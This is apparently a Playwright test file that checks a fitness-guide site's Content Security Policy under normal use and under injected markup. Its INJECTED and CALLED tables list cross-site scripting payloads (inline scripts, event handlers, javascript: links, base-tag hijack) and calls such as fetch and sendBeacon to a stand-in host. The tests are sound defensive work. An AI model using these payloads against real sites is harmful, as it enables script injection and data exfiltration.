"""The security policy in a real browser: nothing that the site does needs more, and nothing that got in does harm."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Request, Route, expect

from followed import SETTLED
from in_page import wait_until
from page_kinds import KINDS, PHONE, UNKNOWN
from site_build import Site
from site_fixtures import opened

SQUAT = "exercises/squat/"
ELSEWHERE = "https://elsewhere.example/"
LISTEN = """addEventListener("securitypolicyviolation", event => console.error(
  `policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`))"""
CONTROLLED = "navigator.serviceWorker.controller?.state === 'activated'"
META = '<meta http-equiv="Content-Security-Policy"'

INJECTED = {
    "script": "<script>did('script')</script>", "module": "<script type=module>did('module')</script>",
    "foreign-script": f"<script src={ELSEWHERE}foreign-script></script>",
    "data-script": "<script src=\"data:text/javascript,did('data-script')\"></script>",
    "svg-script": "<svg><script>did('svg-script')</script></svg>",
    "handler": "<img src=no.png onerror=\"did('handler')\">",
    "svg-handler": "<svg onload=\"did('svg-handler')\"></svg>",
    "focus-handler": "<input autofocus onfocus=\"did('focus-handler')\">",
    "link": "<a class=press href=\"javascript:did('link')\">a</a>",
    "frame-link": "<iframe src=\"javascript:parent.did('frame-link')\"></iframe>",
    "frame": f"<iframe src={ELSEWHERE}frame></iframe>",
    "frame-text": "<iframe srcdoc=\"<script>parent.did('frame-text')</script>\"></iframe>",
    "object": f"<object data={ELSEWHERE}object></object>", "embed": f"<embed src={ELSEWHERE}embed>",
    "image": f"<img src={ELSEWHERE}image>", "video": f"<video src={ELSEWHERE}video preload=auto></video>",
    "stylesheet": f"<link rel=stylesheet href={ELSEWHERE}stylesheet>",
    "style": f"<style>.md-content {{ background: url({ELSEWHERE}style) }}</style>",
    "style-attribute": f"<p style='background: url({ELSEWHERE}style-attribute)'>a</p>",
    "form": f"<form class=press-form method=post target=_blank action={ELSEWHERE}form></form>",
    "base": f"<base href={ELSEWHERE}><img src=base>",
}  # fmt: skip
"""Harmful markup by name. What runs says so to `did`; what asks elsewhere asks for its name."""
CALLED = {
    "fetch": f"() => fetch('{ELSEWHERE}fetch', {{mode: 'no-cors'}}).catch(() => {{}})",
    "beacon": f"() => navigator.sendBeacon('{ELSEWHERE}beacon', 'log')",
    "eval": "() => { setTimeout(() => (0, eval)(\"did('eval')\")) }",
    "function": "() => { setTimeout(() => new Function(\"did('function')\")()) }",
    "timer": "() => { setTimeout(\"did('timer')\") }",
    "worker": f"""() => {{
      const code = new Blob(["fetch('{ELSEWHERE}worker', {{mode: 'no-cors'}})"], {{type: "text/javascript"}});
      try {{ new Worker(URL.createObjectURL(code)) }} catch {{}}
    }}""",
}
"""What a script that runs all the same would try."""


@dataclass
class Watched:
    """A page, and what its policy forbade."""

    page: Page
    forbidden: list[str] = field(default_factory=list)
    asked: set[str] = field(default_factory=set)
    """What was asked for elsewhere."""


@pytest.fixture
def watched(browser: Browser) -> Iterator[Watched]:
    with _watched(browser) as found:
        yield found


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_no_kind_of_page_needs_more(dark: bool, browser: Browser, served_below: str) -> None:
    with _watched(browser, dark=dark) as watched:
        for address in KINDS:
            watched.page.goto(served_below + address, wait_until="load")
            expect(watched.page.locator("body")).to_be_visible()
    assert not watched.forbidden


def test_nothing_that_readers_do_needs_more(watched: Watched, served: str, tmp_path: Path) -> None:
    _search(watched.page, served)
    _filter(watched.page, served)
    _play(watched.page, served)
    _follow(watched.page, served)
    _log(watched.page, served, tmp_path)
    watched.page.emulate_media(media="print")
    watched.page.pdf(path=tmp_path / "log.pdf")
    assert not watched.forbidden


def test_nothing_needs_more_without_a_network(browser: Browser, served: str) -> None:
    with _watched(browser, keeps=True) as watched:
        watched.page.goto(served)
        wait_until(watched.page, CONTROLLED)
        watched.page.context.set_offline(True)
        for address in (SQUAT, "log/", UNKNOWN):
            watched.page.goto(served + address)
            expect(watched.page.locator(".md-content h1")).to_be_visible()
    assert not watched.forbidden


def test_what_got_into_a_page_does_no_harm(watched: Watched, site: Site, served: str) -> None:
    page = site.file(SQUAT).read_text("utf-8")
    assert _harm(watched, served, page) == set()
    directives = {each.split()[1] for each in watched.forbidden}
    assert directives >= {"script-src", "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr"}
    assert directives >= {"img-src", "media-src", "frame-src", "object-src", "worker-src", "connect-src"}
    assert directives >= {"base-uri", "form-action"}


def test_without_a_policy_it_would_do_harm(watched: Watched, site: Site, served: str) -> None:
    page = "\n".join(line for line in site.file(SQUAT).read_text("utf-8").splitlines() if META not in line)
    assert _harm(watched, served, page) == INJECTED.keys() | CALLED.keys()


def test_the_published_headers_allow_the_site_and_forbid_frames(watched: Watched, site: Site, served: str) -> None:
    rules = _rules((site.folder / "_headers").read_text("utf-8"))

    def answer(route: Route) -> None:
        path = route.request.url.removeprefix(served.rstrip("/"))
        more = ", ".join(policy for rule, policy in rules if _matches(rule, path))
        response = route.fetch()
        route.fulfill(response=response, headers={**response.headers, "content-security-policy": more})

    watched.page.context.route(f"{served}**", answer)
    _search(watched.page, served)
    assert not watched.forbidden
    watched.page.goto("about:blank")
    watched.page.set_content(f"<iframe src='{served}'></iframe>")
    watched.page.wait_for_load_state("networkidle")
    assert [frame.url for frame in watched.page.frames[1:]] == ["chrome-error://chromewebdata/"]


@contextmanager
def _watched(browser: Browser, *, dark: bool = False, keeps: bool = False) -> Iterator[Watched]:
    with opened(browser, width=PHONE, dark=dark, keeps=keeps) as page:
        watched = Watched(page)
        page.set_default_timeout(30_000)
        page.add_init_script(LISTEN)
        page.on("console", lambda each: _hear(each.text, watched.forbidden))
        page.on("pageerror", lambda error: watched.forbidden.append(f"error: {error}"))
        yield watched


def _hear(text: str, forbidden: list[str]) -> None:
    if text.startswith("policy: ") or "Content Security Policy" in text:
        forbidden.append(text)


def _harm(watched: Watched, served: str, page: str) -> set[str]:
    """Names of what did harm on this page with everything injected into it."""
    ran: set[str] = set()
    injected = page.replace("</body>", "\n".join([*INJECTED.values(), "</body>"]))
    context = watched.page.context

    def elsewhere(route: Route, request: Request) -> None:
        watched.asked.add(request.url.removeprefix(ELSEWHERE).partition("?")[0])
        route.fulfill(body="", headers={"Access-Control-Allow-Origin": "*"})

    context.expose_function("did", lambda name: ran.add(name))
    context.route(f"{ELSEWHERE}**", elsewhere)
    context.route(served + SQUAT, lambda route: route.fulfill(body=injected, content_type="text/html; charset=utf-8"))
    watched.page.goto(served + SQUAT)
    for call in CALLED.values():
        watched.page.evaluate(call)
    watched.page.evaluate("document.querySelectorAll('.press').forEach(each => each.click())")
    watched.page.evaluate("document.querySelectorAll('.press-form').forEach(each => each.submit())")
    watched.page.wait_for_timeout(500)
    watched.page.wait_for_load_state("networkidle")
    watched.forbidden = [each for each in watched.forbidden if each.startswith("policy: ")]
    return ran | (watched.asked & (INJECTED.keys() | CALLED.keys()))


def _search(page: Page, served: str) -> None:
    page.goto(served)
    page.locator("header nav > label[for=__search]").click()
    expect(page.locator(".md-search-result__meta")).not_to_have_text("Initializing search")  # or it overlooks the keys
    page.locator("[data-md-component=search-query]").press_sequentially("pistol")
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    page.locator("[data-md-component=search-query]").clear()
    page.keyboard.type("zzzz")
    expect(page.locator(".md-search-result__meta")).to_have_text("No matching documents")
    page.keyboard.press("Enter")
    expect(page.locator("[data-md-component=search-query]")).to_have_value("zzzz")
    page.keyboard.press("Escape")
    page.locator("form[data-md-component=palette] label").filter(visible=True).click()
    page.reload()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")


def _filter(page: Page, served: str) -> None:
    page.goto(f"{served}routines/")
    page.get_by_role("checkbox", name="Nothing needed").check()
    page.keyboard.press("Enter")
    expect(page.locator(".guide-find__count")).to_be_visible()


def _play(page: Page, served: str) -> None:
    page.emulate_media(reduced_motion="no-preference")
    page.goto(f"{served}exercises/jumping-lunge/")
    page.get_by_role("button", name="Play the movement").click()
    expect(page.get_by_role("button", name="Stop")).to_be_visible()


def _follow(page: Page, served: str) -> None:
    page.goto(f"{served}my-session/?do=squat.1x1")
    page.get_by_role("button", name="Start").click()
    page.get_by_role("button", name="Begin", exact=True).click()
    while page.locator("dialog.session").get_attribute("data-kind") != "work":
        page.get_by_role("button", name="Skip", exact=True).click()
    expect(page.locator(".session__figure svg")).to_be_visible()
    expect(page.locator("dialog.session[data-kind=finish]")).to_be_visible()
    page.get_by_role("button", name="Skip", exact=True).click()
    page.wait_for_timeout(SETTLED)  # the second tap of a double tap would count for nothing
    page.get_by_role("button", name="Save to my log").click()
    page.wait_for_url("**/log/")


def _log(page: Page, served: str, folder: Path) -> None:
    page.goto(f"{served}log/")
    for name in ("leg-strength-log.csv", "leg-strength-log.json"):
        with page.expect_download() as download:
            page.locator(f"[data-log={name.rpartition('.')[2]}]").click()
        download.value.save_as(folder / name)
        assert download.value.suggested_filename == name
    page.locator("[data-log=file]").set_input_files(folder / "leg-strength-log.json")
    expect(page.locator("[data-log=said]")).to_contain_text("1 session imported")


def _rules(text: str) -> list[tuple[str, str]]:
    """(address, policy) of each rule in a file of headers."""
    found, address = [], ""
    for line in text.splitlines():
        if line.startswith("/"):
            address = line
        elif "Content-Security-Policy:" in line:
            found.append((address, line.partition(":")[2].strip()))
    return found


def _matches(rule: str, path: str) -> bool:
    return path.startswith(rule[:-1]) if rule.endswith("*") else path == rule
